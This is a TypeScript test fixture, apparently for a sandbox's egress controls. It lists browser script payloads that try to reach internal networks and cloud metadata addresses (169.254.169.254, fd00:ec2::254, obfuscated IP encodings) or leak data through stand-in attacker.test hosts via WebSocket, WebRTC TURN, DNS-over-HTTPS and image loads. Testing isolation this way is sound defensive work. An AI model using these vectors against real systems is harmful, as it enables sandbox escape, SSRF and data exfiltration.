/** Ways out by what scripts call. */
import { name, packet } from './vector.ts';
import { framed, ice, inWorker, script, written, type Written } from './written.ts';

export const CALLS: readonly Written[] = [
  written(
    'scripts',
    'xhr',
    script("const x = new XMLHttpRequest(); x.open('GET', 'TO'); x.send()"),
  ),
  written('scripts', 'keepalive', script("fetch('TO', { keepalive: true, mode: 'no-cors' })")),
  written(
    'scripts',
    'preflight',
    script("await fetch('TO', { method: 'PUT', headers: { 'x-a': '1' } })"),
  ),
  written(
    'scripts',
    'private-network',
    script("await fetch('TO', { targetAddressSpace: 'private' })"),
  ),
  written('scripts', 'redirected', script("await fetch('/redir?to=TO', { mode: 'no-cors' })")),
  written('scripts', 'beacon-blob', script("navigator.sendBeacon('TO', new Blob(['x']))")),
  written('scripts', 'EventSource-redirected', script("new EventSource('/redir?to=TO')")),
  written(
    'workers',
    'importScripts',
    inWorker("importScripts('http://10.96.0.1/m/importScripts')"),
  ),
  written(
    'workers',
    'worker-xhr',
    inWorker(
      "const x = new XMLHttpRequest(); x.open('GET', 'http://10.96.0.1/m/worker-xhr'); x.send()",
    ),
  ),
  written(
    'workers',
    'worker-EventSource',
    inWorker("new EventSource('http://10.96.0.1/m/worker-EventSource')"),
  ),
  written(
    'workers',
    'nested-worker',
    inWorker(
      'new Worker(URL.createObjectURL(new Blob(["fetch(\'http://10.96.0.1/m/nested-worker\')"])))',
    ),
  ),
  written('workers', 'module-worker', script("new Worker('/import.js', { type: 'module' })")),
  written('WebSocket', 'ws-decimal', script("new WebSocket('ws://2852039166/m/ws-decimal')")),
  written('WebSocket', 'ws-mapped', script("new WebSocket('ws://[::ffff:a9fe:a9fe]/m/ws-mapped')")),
  written('WebSocket', 'ws-v6', script("new WebSocket('ws://[fd00:ec2::254]/m/ws-v6')")),
  written(
    'WebSocket',
    'ws-frame',
    framed("<script>new WebSocket('ws://10.96.0.1/m/ws-frame')</script>"),
  ),
  written('WebSocket', 'ws-worker', inWorker("new WebSocket('ws://10.96.0.1/m/ws-worker')")),
  written('WebSocket', 'ws-shared', script("new SharedWorker('/shared.js')")),
  written(
    'WebSocket',
    'ws-stream',
    script("await new WebSocketStream('ws://10.96.0.1/m/ws-stream').opened"),
  ),
  written('WebSocket', 'wss', script("new WebSocket('wss://169.254.169.254/m/wss')"), {
    sign: packet('tcp 169.254.169.254:443'),
  }),
  written('WebRTC', 'stun-v6', ice("{ urls: 'stun:[fd00:ec2::254]:3479' }"), {
    sign: packet('udp [fd00:ec2::254]:3479'),
  }),
  written(
    'WebRTC',
    'turn-udp',
    ice("{ urls: 'turn:169.254.169.254:3480', username: 'u', credential: 'c' }"),
    {
      sign: packet('udp 169.254.169.254:3480'),
    },
  ),
  written(
    'WebRTC',
    'turns',
    ice("{ urls: 'turns:169.254.169.254:5349', username: 'u', credential: 'c' }"),
    {
      sign: packet('tcp 169.254.169.254:5349'),
    },
  ),
  written(
    'WebRTC',
    'relay',
    ice(
      "{ urls: 'turn:203.0.113.10:3481', username: 'u', credential: 'c' }",
      ", iceTransportPolicy: 'relay'",
    ),
    {
      sign: packet('udp 203.0.113.10:3481'),
    },
  ),
  written(
    'WebRTC',
    'turn-name',
    ice(
      "{ urls: 'turn:turn-secret.attacker.test:3478?transport=tcp', username: 'u', credential: 'c' }",
    ),
    {
      sign: name('turn-secret.attacker.test'),
    },
  ),
  written(
    'WebRTC',
    'stun-frame',
    framed(
      "<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:10.96.0.1:3482' }] }); pc.createDataChannel('x'); pc.setLocalDescription()</script>",
    ),
    {
      sign: packet('udp 10.96.0.1:3482'),
    },
  ),
  written(
    'names',
    'dns-over-https',
    script(
      "await fetch('https://doh-secret.attacker.test/dns-query?dns=AAABAAAB', { mode: 'no-cors' })",
    ),
    {
      sign: name('doh-secret.attacker.test'),
    },
  ),
  written('names', 'name-image', '<img src="http://image-secret.attacker.test/x">', {
    sign: name('image-secret.attacker.test'),
  }),
  written('names', 'name-ws', script("new WebSocket('ws://ws-secret.attacker.test/')"), {
    sign: name('ws-secret.attacker.test'),
  }),
  written('windows', 'open', script("window.open('TO')")),
  written('windows', 'noopener', script("window.open('TO', '_blank', 'noopener')")),
];
